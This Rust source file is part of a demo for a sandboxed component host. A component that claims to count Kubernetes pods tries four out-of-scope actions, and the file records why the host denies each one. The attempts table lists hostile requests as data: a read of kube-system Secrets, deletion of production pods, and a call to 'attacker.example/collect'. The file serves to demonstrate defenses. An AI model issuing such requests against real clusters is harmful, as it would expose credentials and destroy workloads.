//! The last part of the demo: a component that says it counts pods, and what becomes of all else that it tries.

use crate::demo::tour::Tour;
use meho_host::approval::NoApprover;
use meho_host::error::CallError;
use serde_json::{Value, json};
use std::sync::Arc;

/// What it tries, what that would have been, and why it may not.
const ATTEMPTS: [(&str, &str, &str); 4] = [
    (
        "read-secrets",
        "GET /api/v1/namespaces/kube-system/secrets",
        "the operation declared that it lists pods; Secrets are no part of that",
    ),
    (
        "delete-pods",
        "DELETE /api/v1/namespaces/production/pods",
        "it declared to read, and what it declared is all that is sent: nobody is even asked",
    ),
    (
        "another-host",
        "GET https://attacker.example/collect",
        "a component knows one address, that of the host, and has no way to another",
    ),
    (
        "every-namespace",
        "GET /api/v1/pods",
        "the caller said namespace=production, so that is where its pods may be listed",
    ),
];

/// An attempt, and how the call ended.
#[derive(Debug)]
pub(crate) struct Attempt {
    pub(crate) what: &'static str,
    pub(crate) request: &'static str,
    /// Why it is denied.
    pub(crate) why: &'static str,
    pub(crate) ending: Result<Value, CallError>,
}

impl Attempt {
    /// For programs.
    pub(crate) fn document(&self) -> Value {
        match &self.ending {
            Ok(data) => json!({"attempt": self.what, "request": self.request, "why": self.why, "data": data}),
            Err(error) => json!({"attempt": self.what, "request": self.request, "why": self.why, "error": error}),
        }
    }
}

/// Loads it and lets it try.
pub(crate) async fn attempts(tour: &Tour<'_>) -> Result<Vec<Attempt>, CallError> {
    let intruder = tour.host.load(meho_artifacts::INTRUDER.to_vec()).await?;
    let mut attempts = Vec::new();
    for (what, request, why) in ATTEMPTS {
        let call = tour.call("count_pods", json!({"namespace": "production", "attempt": what}));
        let stream = tour.host.call(&intruder, &tour.target, call, Arc::new(NoApprover));
        let ending = stream.collect().await.map(|(data, _)| data);
        attempts.push(Attempt { what, request, why, ending });
    }
    Ok(attempts)
}
